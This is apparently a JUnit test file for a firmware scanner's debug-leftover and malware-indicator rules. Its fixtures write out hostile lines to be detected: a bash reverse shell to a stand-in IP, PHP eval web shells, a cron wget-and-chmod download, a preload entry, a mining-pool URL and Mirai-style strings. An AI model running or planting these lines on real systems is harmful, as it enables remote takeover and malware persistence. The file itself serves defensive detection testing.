package io.firmament.analysis.inspect.rules;

import static io.firmament.analysis.inspect.Inspected.by;
import static io.firmament.analysis.inspect.Inspected.only;
import static org.junit.jupiter.api.Assertions.assertEquals;

import io.firmament.analysis.elf.TestElf;
import io.firmament.analysis.tree.MemoryTree;
import io.firmament.base.finding.Confidence;
import io.firmament.base.finding.Issue;
import io.firmament.base.finding.Severity;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class LeftoverRulesTest {
  @ParameterizedTest
  @CsvSource({
    "usr/bin/gdbserver, debugger, MEDIUM",
    "usr/sbin/tcpdump, sniffer, LOW",
    "usr/bin/arm-linux-gnueabi-gcc-12, compiler, LOW",
    "www/.git/config, repository, MEDIUM",
    "root/.bash_history, history, MEDIUM",
    "www/app.js.map, source_map, LOW",
    "etc/init.d/rcS~, editor, LOW"
  })
  void findsToolsAndTracesByTheirPlace(String path, String kind, Severity severity) {
    Issue issue = only("debug-leftover", new MemoryTree().file(path, "x"));
    assertEquals(kind, issue.facts().get("kind"));
    assertEquals(severity, issue.severity());
  }

  @ParameterizedTest
  @CsvSource({
    "usr/share/gdb/x",
    "usr/bin/gdb-helper",
    "www/git/config",
    "www/app.js",
    "etc/bashrc"
  })
  void leavesOtherFilesAlone(String path) {
    assertEquals(List.of(), by("debug-leftover", new MemoryTree().file(path, "x")));
  }

  @Test
  void findsAppletsCoreDumpsAndBuildPaths() {
    MemoryTree tree =
        new MemoryTree()
            .link("usr/bin/strace", "../../bin/busybox")
            .file("var/core.1", 0600, TestElf.arm().type(4).build())
            .file("bin/a", 0755, TestElf.arm().text("/home/jdoe/work/gateway/main.c").build());
    assertEquals(
        List.of("build_paths", "core_dump", "debugger"),
        by("debug-leftover", tree).stream().map(i -> i.facts().get("kind")).sorted().toList());
  }

  @Test
  void findsAndroidThatIsBuiltForDebugging() {
    MemoryTree tree =
        new MemoryTree()
            .file("system/build.prop", "ro.debuggable=1\nro.build.tags=test-keys\n")
            .file("vendor/build.prop", "ro.debuggable=0\nro.build.tags=release-keys\n");
    List<Issue> issues = by("debug-leftover", tree);
    assertEquals(2, issues.size());
    assertEquals(List.of("system/build.prop"), issues.getFirst().paths());
  }

  // Malware

  @Test
  void findsTheTestFileOfTheTrade() {
    String eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    Issue issue = only("malware-indicator", new MemoryTree().file("a.com", eicar));
    assertEquals(Confidence.HIGH, issue.confidence());
    Issue inside = only("malware-indicator", new MemoryTree().file("a", "db: " + eicar));
    assertEquals(Severity.LOW, inside.severity());
    MemoryTree part = new MemoryTree().file("a", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE");
    assertEquals(List.of(), by("malware-indicator", part));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "etc/rc.local | bash -i >& /dev/tcp/10.1.2.3/4444 0>&1 | reverse-shell",
        "www/a.php | <?php eval(base64_decode('aGk=')); | web-shell",
        "www/a.php | <?php @eval($_POST['x']); | web-shell",
        "etc/ld.so.preload | /usr/lib/libx.so | preload",
        "etc/cron.d/x | * * * * * root wget -q http://10.1.2.3/a -O /tmp/a; chmod 777 /tmp/a |"
            + " schedule",
        "opt/x.json | \"url\": \"stratum+tcp://pool.a.net:3333\" | miner"
      })
  void findsConstructionsThatHonestFirmwareDoesNotHave(String path, String line, String kind) {
    Issue issue = only("malware-indicator", new MemoryTree().file(path, line + "\n"));
    assertEquals(kind, issue.facts().get("kind"));
    MemoryTree docs = new MemoryTree().file("usr/share/doc/x/" + path, line + "\n");
    assertEquals(List.of(), by("malware-indicator", docs));
  }

  @Test
  void findsAProgramThatTakesDevicesOver() {
    String[] vocabulary = {
      "/dev/watchdog", "/proc/net/tcp", "assword", "enable", "shell", "ncorrect"
    };
    byte[] bot =
        TestElf.mips().text(vocabulary).section(".x", 1, bytes("/bin/busybox MIRAI\r\n")).build();
    assertEquals(
        Severity.CRITICAL,
        only("malware-indicator", new MemoryTree().file("tmp/b", 0755, bot)).severity());
    byte[] login = TestElf.mips().text(vocabulary).build();
    assertEquals(
        List.of(), by("malware-indicator", new MemoryTree().file("bin/login", 0755, login)));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "etc/rc.local | # bash -i >& /dev/tcp/10.1.2.3/4444 0>&1",
        "usr/lib/test.sh | exec 3<>/dev/tcp/localhost/80",
        "www/a.php | <?php $x = base64_decode($_POST['x']);",
        "www/a.js | eval(atob('aGk='))",
        "etc/cron.d/x | 0 3 * * * root wget -q https://a.net/list -O /var/list"
      })
  void leavesHonestConstructionsAlone(String path, String line) {
    assertEquals(List.of(), by("malware-indicator", new MemoryTree().file(path, line + "\n")));
  }

  private static byte[] bytes(String text) {
    return text.getBytes(java.nio.charset.StandardCharsets.US_ASCII);
  }
}
